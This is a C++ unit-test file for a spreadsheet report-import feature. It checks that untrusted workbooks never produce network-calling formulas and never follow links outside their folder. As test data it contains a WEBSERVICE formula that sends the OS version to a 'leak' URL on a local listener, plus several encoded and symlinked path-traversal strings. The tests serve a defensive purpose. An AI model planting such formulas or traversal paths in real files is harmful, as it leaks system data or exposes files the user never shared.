// A workbook may come from a stranger: none of its texts becomes a formula that asks a network, and
// it gets no file to read that the user did not link.
#include <atomic>
#include <chrono>
#include <stdexcept>
#include <thread>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <boost/test/unit_test.hpp>

#include <com/sun/star/frame/DispatchResultState.hpp>
#include <com/sun/star/sheet/XSheetLinkable.hpp>
#include <com/sun/star/table/XColumnRowRange.hpp>
#include <org/reportindicators/ReportException.hpp>

#include "calc/commands.hpp"
#include "calc/imported.hpp"
#include "workbook/sheet/words.hpp"

using namespace ri::test;
using css::uno::Reference;
using css::uno::UNO_QUERY_THROW;
using org::reportindicators::ReportException;

namespace {

const Office &theOffice() {
  static const Office office;
  return office;
}

/// Hears whoever connects to a port of this computer, and hangs up.
class Listener {
public:
  Listener() : socket_(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)) {
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t size = sizeof address;
    auto *any = reinterpret_cast<sockaddr *>(&address);
    if (bind(socket_, any, size) != 0 || listen(socket_, 16) != 0 ||
        getsockname(socket_, any, &size) != 0)
      throw std::runtime_error("no port to listen at");
    port_ = ntohs(address.sin_port);
    thread_ = std::thread([this] {
      for (int caller = 0; (caller = accept(socket_, nullptr, nullptr)) >= 0; ++calls_)
        close(caller);
    });
  }
  ~Listener() {
    shutdown(socket_, SHUT_RDWR);
    thread_.join();
    close(socket_);
  }
  Listener(const Listener &) = delete;
  Listener &operator=(const Listener &) = delete;

  /// A formula that connects.
  std::string formula() const {
    return "=WEBSERVICE(\"http://127.0.0.1:" + std::to_string(port_) +
           "/leak?\"&INFO(\"osversion\"))";
  }

  /// Whether anybody has connected since it was asked last, or does soon.
  bool wasCalled() {
    std::this_thread::sleep_for(std::chrono::milliseconds(300));
    return calls_.exchange(0) != 0;
  }

private:
  int socket_;
  int port_ = 0;
  std::atomic<int> calls_ = 0;
  std::thread thread_;
};

/// The columns of Base that say what was written where, without those that say of what.
std::vector<std::string> contentOfBase() {
  std::vector<std::string> names;
  for (const ri::Column &column : ri::columnsOf(ri::SheetId::Base))
    if (column.name != "rb_kind" && column.name != "rb_report" && column.name != "rb_no" &&
        column.name != "rb_key")
      names.emplace_back(column.name);
  return names;
}

/// A workbook whose Base claims that the formula was written everywhere, and whose Changes asks to
/// write it into every column of a row again.
Document claiming(const Imported &it, const std::string &formula, bool calculated) {
  const std::string key = it.shown("新建公園", "ri_key");
  const Document &document = it.document;
  Reference<css::table::XColumnRowRange>(document.sheet("Indicators"), UNO_QUERY_THROW)
      ->getRows()
      ->removeByIndex(it.row("糧食總產量"), 1);
  makeConflicts(it);
  auto line = static_cast<int>(document.values("Changes").size());
  for (const ri::Column &column : ri::columnsOf(ri::SheetId::Indicators)) {
    const std::size_t index = ri::columnIndex(ri::SheetId::Indicators, column.name);
    write(document.cell("rx_key", line), key);
    write(document.cell("rx_column", line++),
          toUtf8(ri::headingOf(ri::SheetId::Indicators, index, ri::Language::English)));
  }
  const auto rows = document.named("rb_kind");
  for (int row = rows.StartRow; row <= rows.EndRow; ++row)
    for (const std::string &column : contentOfBase()) {
      const auto cell = document.cell(column, row);
      if (document.shown("rb_kind", row) != "row")
        continue;
      if (calculated)
        cell->setFormula(toOUString(formula));
      else
        write(cell, formula);
    }
  document.store(it.folder.path() / "strange.ods", "calc8");
  return theOffice().open(it.folder.path() / "strange.ods");
}

/// All that is done to a workbook asks no network, whatever its cells hold.
void checkQuiet(bool calculated) {
  Listener listener;
  const Imported it(theOffice());
  Document strange = claiming(it, listener.formula(), calculated);
  listener.wasCalled(); // while the workbook was made
  const auto isQuiet = [&](const char *what) {
    strange.recalculate();
    BOOST_TEST(!listener.wasCalled(), what);
  };
  isQuiet("loaded");
  // A Base that calculates is none of ours, and is refused.
  const sal_Int16 expected = calculated ? css::frame::DispatchResultState::FAILURE
                                        : css::frame::DispatchResultState::SUCCESS;
  const auto run = [&](const char *command) {
    BOOST_TEST(dispatch(theOffice(), strange, command).State == expected, command);
    isQuiet(command);
  };
  const int rows = strange.rows();
  select(strange, strange.sheet("Changes")->getCellRangeByName("A1:F9")); // a deleted row, too
  run("TakeTheirs");
  BOOST_TEST(strange.rows() == rows + (calculated ? 0 : 1));
  run("TakeAllTheirs");
  if (!calculated)
    BOOST_TEST(
        (strange.cell("ri_previous", *strange.find("ri_measure", listener.formula()))->getType() ==
         css::table::CellContentType_TEXT));
  run("Refresh");
  it.editFile("5500億元", "6000億元");
  run("Refresh");
  strange.close();
}

/// A workbook that a script links to a URL, as no import would; Base claims that it holds what the
/// report held that was imported.
Document linkedTo(const Imported &it, const rtl::OUString &url, const std::filesystem::path &file) {
  write(it.document.cell("rb_text", *it.document.find("rb_kind", "report")), toUtf8(url));
  it.document.store(file, "calc8");
  return theOffice().open(file);
}

/// A file outside the workbook's folder, named as the report that was imported.
struct Secret {
  explicit Secret(const std::filesystem::path &top)
      : folder(top / "secret"), inner(top / "unpacked" / "deeper"), file(folder / "report.txt") {
    std::filesystem::create_directories(folder);
    std::filesystem::create_directories(inner);
    writeFile(file, edited("5000億元", "5500億元"));
  }
  std::filesystem::path folder, inner, file;
};

void checkRefused(const Imported &it, Document &strange) {
  const auto before = strange.contents();
  BOOST_CHECK_THROW(it.reports->refresh(strange.spreadsheet()), ReportException);
  BOOST_TEST((strange.contents() == before));
  BOOST_TEST(!strange.modified());
  strange.close();
}

} // namespace

BOOST_AUTO_TEST_CASE(theListenerHearsAFormulaThatConnects) {
  Listener listener;
  Document document = theOffice().create();
  document.cell(document.sheetNames().front(), 0, 0)->setFormula(toOUString(listener.formula()));
  BOOST_TEST(listener.wasCalled());
  document.close();
}

BOOST_AUTO_TEST_CASE(noTextOfAWorkbookBecomesAFormula) { checkQuiet(false); }

BOOST_AUTO_TEST_CASE(noFormulaOfAWorkbookIsWrittenAnew) { checkQuiet(true); }

BOOST_AUTO_TEST_CASE(noWayOutOfTheWorkbooksFolderIsFollowed) {
  const Imported it(theOffice());
  const Secret secret(it.folder.path());
  std::filesystem::create_symlink(secret.file, secret.inner / "report.txt");
  std::filesystem::create_directory_symlink(secret.folder, secret.inner / "folder");
  const rtl::OUString inner = fileUrl(secret.inner);
  for (const char *way :
       {"/../../secret/report.txt", "/%2e%2e/%2E%2E/secret/report.txt", "/report.txt",
        "/folder/report.txt", "/./folder/../secret/report.txt", "/../deeper/folder//report.txt"})
    BOOST_TEST_CONTEXT(way) {
      Document strange =
          linkedTo(it, inner + rtl::OUString::createFromAscii(way), secret.inner / "strange.ods");
      checkRefused(it, strange);
    }
  Document strange = linkedTo(it, "file://localhost" + inner.copy(7) + "/../../secret/report.txt",
                              secret.inner / "strange.ods");
  checkRefused(it, strange);
}

/// A workbook that lies in the home folder has everything below it.
BOOST_AUTO_TEST_CASE(belowTheWorkbooksFolderOnlyTheSameReportIsFollowed) {
  const Imported it(theOffice());
  const Secret secret(it.folder.path());
  const auto file = it.folder.path() / "strange.ods";
  Document other = linkedTo(it, fileUrl(secret.file), file);
  checkRefused(it, other);
  writeFile(secret.file, kSmallReport);
  Document same = linkedTo(it, fileUrl(secret.file), file);
  it.reports->refresh(same.spreadsheet());
  same.close();
}

/// The workbook itself is opened by a link: beside it is where it really lies.
BOOST_AUTO_TEST_CASE(besideALinkToAWorkbookIsNotBesideIt) {
  const Imported it(theOffice());
  const Secret secret(it.folder.path());
  const auto link = secret.folder / "strange.ods";
  std::filesystem::create_symlink(secret.inner / "strange.ods", link);
  writeFile(secret.file, kSmallReport);
  linkedTo(it, fileUrl(secret.file), secret.inner / "strange.ods").close();
  Document strange = theOffice().open(link);
  checkRefused(it, strange);
}

/// A sheet that shows another file is filled by our filter when the office updates links; nobody
/// opened that report.
BOOST_AUTO_TEST_CASE(whatASheetLinksIsNotTrusted) {
  const Imported it(theOffice());
  const Secret secret(it.folder.path());
  Document linking = theOffice().create();
  const Reference<css::sheet::XSheetLinkable> sheet(linking.sheet(linking.sheetNames().front()),
                                                    UNO_QUERY_THROW);
  sheet->link(fileUrl(secret.file), "Source", "report_indicators", {},
              css::sheet::SheetLinkMode_NORMAL);
  BOOST_TEST(!linking.contents().empty());
  linking.close();
  Document strange = linkedTo(it, fileUrl(secret.file), secret.inner / "strange.ods");
  checkRefused(it, strange);
}
